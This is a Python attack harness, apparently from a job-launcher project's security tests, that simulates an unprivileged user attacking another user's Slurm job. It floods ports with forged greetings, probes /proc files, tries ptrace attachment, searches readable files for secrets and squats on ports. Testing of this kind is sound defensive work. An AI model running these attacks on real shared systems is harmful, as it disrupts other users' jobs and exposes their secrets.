# SPDX-License-Identifier: Apache-2.0
"""What a user without rights tries against another one's job.
usage: hostile.py storm UID AT_ONCE LOG [SIZE]
           keeps AT_ONCE connections to the TCP ports on which processes of UID
           listen, and sends datagrams to their UDP ports, until it is killed;
           a line of LOG names each port. Started by root, who tells it which of
           srun's ports are Slurm's own: those are not attacked, as a plain srun
           does not stand that. SIZE: each goes to a MASTER_PORT, is the beginning
           of a right greeting of a job of that many ranks, and stays
       hostile.py pry UID
           reads the environment, the memory map and the open files of UID's
           processes, and traces them; prints what it gets
       hostile.py seek PATH...
           prints the files below each PATH that can be read and have the text
           of standard input
       hostile.py squat PORT...
           listens on each port, sends line ends to whoever connects"""
import ctypes
import os
import random
import select
import socket
import struct
import subprocess
import sys
import time

MOST_BYTES = 1 << 26  # of a file that is searched
MASTER_PORTS = range(25003, 29400)


def listening(uid, table):
    """Ports on which processes of a user listen, and their inodes."""
    ports = {}
    try:
        lines = open("/proc/net/" + table).read().splitlines()[1:]
    except OSError:
        return ports
    for line in lines:
        part = line.split()
        local, state, owner = part[1], part[3], int(part[7])
        if owner == uid and (state == "0A" or table.startswith("udp")):
            ports[int(local.rsplit(":", 1)[1], 16)] = part[9]
    return ports


def sockets_of_srun(uid):
    found = set()
    for pid in owned(uid):
        try:
            if open(f"/proc/{pid}/comm").read() == "srun\n":
                for fd in os.scandir(f"/proc/{pid}/fd"):
                    found.add(os.readlink(fd.path))
        except OSError:
            continue
    return found


def targets(uid):
    """Slurm listens for IPv4 alone; the plugin's port in srun takes IPv6 too."""
    found = set(listening(uid, "tcp6"))
    others = listening(uid, "tcp")
    if others:
        own = sockets_of_srun(uid)
        found |= {port for port, inode in others.items()
                  if f"socket:[{inode}]" not in own}
    return found


def fnv(text, start=0xCBF29CE484222325):
    """topology/base/hash.c: what a greeting's key is made of."""
    for byte in text.encode():
        start = (start ^ byte) * 0x100000001B3 & (1 << 64) - 1
    return start


def steps():
    """The steps that squeue shows to everybody, with some numbers of tasks."""
    out = subprocess.run(["squeue", "-h", "-s", "-o", "%i"],
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                         stdin=subprocess.DEVNULL, text=True).stdout
    return [s for s in out.split() if s.replace(".", "").isdigit()] or ["1.0"]


def greeting(jobs, size, kind):
    """A rank's hello (runtime/comm/bootstrap/greeting.h), with a seal as one may
    make it up without the secret."""
    rank = random.randrange(1, size)
    key = fnv(random.choice(jobs))
    if kind == 1:
        key = fnv("tree", key)
    elif kind == 2:
        key = fnv("tree", key) + random.randrange(size)
    elif kind == 3:
        key = fnv("tree", key + random.randrange(size) & (1 << 64) - 1)
    began = random.choice((0, 1, 1 << 40, (1 << 64) - 1))
    return b"PLAITRV4" + struct.pack("<QIIQ", key & (1 << 64) - 1, rank, size,
                                     began) + os.urandom(16 + 32)


def attack(jobs, size):
    """What is sent on one connection."""
    if size:
        return greeting(jobs, size, 0)
    hello = greeting(jobs, random.choice((2, 4, 8)), random.randrange(4))
    notice = random.choice((b"PLAITOUT", b"PLAITSTP"))
    text = random.choice(jobs).encode()
    return random.choice((
        b"",
        os.urandom(random.randrange(1, 64)),
        b"\0" * 4096,
        b"\xff" * 4096,
        b"\n",
        b"GET / HTTP/1.0\r\n\r\n",
        b"x" * 65536,
        b"plait " + text + b" 1 ok 0\n",
        b"member 0 " + os.urandom(16).hex().encode() + b" " +
        os.urandom(32).hex().encode() + b" ok 0\n",
        b"member",
        hello,
        hello[:20],
        hello[:48],
        hello + os.urandom(32),
        notice + hello[8:] + os.urandom(32),
        hello + struct.pack("<QQQ", (1 << 64) - 32, 0, 0) * 40,
    ))


def connect(port):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", port))
    return s


def scout(uid, told):
    """As root: tell the ports, until the storm is over."""
    while True:
        line = " ".join(map(str, sorted(targets(uid)))) + "\n"
        try:
            os.write(told, line.encode())
        except BrokenPipeError:
            sys.exit()
        time.sleep(0.01)


def newest(told, ports):
    """What the scout has told last."""
    lines = []
    while select.select([told], [], [], 0)[0]:
        more = os.read(told, 65536)
        if not more:
            sys.exit()
        lines = more.split(b"\n")[-2:]
    return sorted(map(int, lines[0].split())) if len(lines) > 1 else ports


def storm(uid, at_once, log, size):
    told, tell = os.pipe()
    if os.fork() == 0:
        os.close(told)
        scout(uid, tell)
    os.close(tell)
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    held, jobs, looked, seen, ports = {}, [], 0, set(), []
    poll, waiting = select.poll(), set()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        if time.monotonic() > looked + 0.5:
            jobs, looked = steps(), time.monotonic()
        ports = newest(told, ports)
        udp = listening(uid, "udp")
        for port in [*ports, *udp]:
            if port not in seen:
                seen.add(port)
                print(port, file=log, flush=True)
        if size:
            ports = [port for port in ports if port in MASTER_PORTS]
        while ports and len(held) < at_once:
            s = connect(random.choice(ports))
            held[s.fileno()] = s
            poll.register(s, select.POLLOUT)
        for fd, _ in poll.poll(5):
            s = held[fd]
            try:
                if fd in waiting:
                    raise ConnectionResetError
                s.send(attack(jobs, size))
                # Half of them stay, and so use up what the listener allows.
                if size or random.random() < 0.5:
                    poll.modify(fd, select.POLLRDHUP)
                    waiting.add(fd)
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            poll.unregister(fd)
            waiting.discard(fd)
            s.close()
            del held[fd]
        for port in udp:
            datagrams.sendto(os.urandom(random.randrange(1, 200)),
                             ("127.0.0.1", port))
        if not ports:
            time.sleep(0.001)


def owned(uid):
    """Processes of a user."""
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.stat("/proc/" + name).st_uid == uid:
                yield name
        except OSError:
            continue


def reads(path):
    """Whether there is something to be read: the files of a process that ends
    open for everybody, and are empty."""
    try:
        with open(path, "rb") as file:
            return file.read(1) != b""
    except OSError:
        return False


def pry(uid):
    libc, n = ctypes.CDLL(None, use_errno=True), 0
    for pid in owned(uid):
        n += 1
        for name in ("environ", "maps", "auxv", "stack", "syscall"):
            if reads(f"/proc/{pid}/{name}"):
                print(f"{name} of process {pid} can be read")
        try:
            print(f"files of process {pid}:", os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            pass
        if libc.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
            print(f"process {pid} can be traced")
        try:
            os.kill(int(pid), 0)
            print(f"process {pid} takes signals")
        except OSError:
            pass
    print(n > 0 and "looked" or "no process")


def seek(text, paths):
    for path in paths:
        for folder, _, names in os.walk(path):
            for name in names:
                file = os.path.join(folder, name)
                try:
                    fd = os.open(file, os.O_RDONLY | os.O_NONBLOCK |
                                 os.O_NOFOLLOW)
                except OSError:
                    continue
                with open(fd, "rb") as f:
                    try:
                        if text in (f.read(MOST_BYTES) or b""):
                            print(file)
                    except OSError:
                        pass


def squat(ports):
    poll, held = select.poll(), {}
    for port in ports:
        s = socket.socket(socket.AF_INET6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.bind(("", port))
        s.listen(100)
        s.setblocking(False)
        poll.register(s, select.POLLIN)
        held[s.fileno()] = s
    print("listens", flush=True)
    guests = []
    while True:
        for fd, _ in poll.poll(1000):
            guests.append(held[fd].accept()[0])
        for guest in guests:
            try:
                guest.send(b"\n", socket.MSG_NOSIGNAL | socket.MSG_DONTWAIT)
            except OSError:
                pass


def main():
    what, rest = sys.argv[1], sys.argv[2:]
    if what == "storm":
        storm(int(rest[0]), int(rest[1]), open(rest[2], "w"),
              int(rest[3]) if len(rest) > 3 else 0)
    elif what == "pry":
        pry(int(rest[0]))
    elif what == "seek":
        seek(sys.stdin.buffer.read().strip(), rest)
    elif what == "squat":
        squat([int(port) for port in rest])


main()
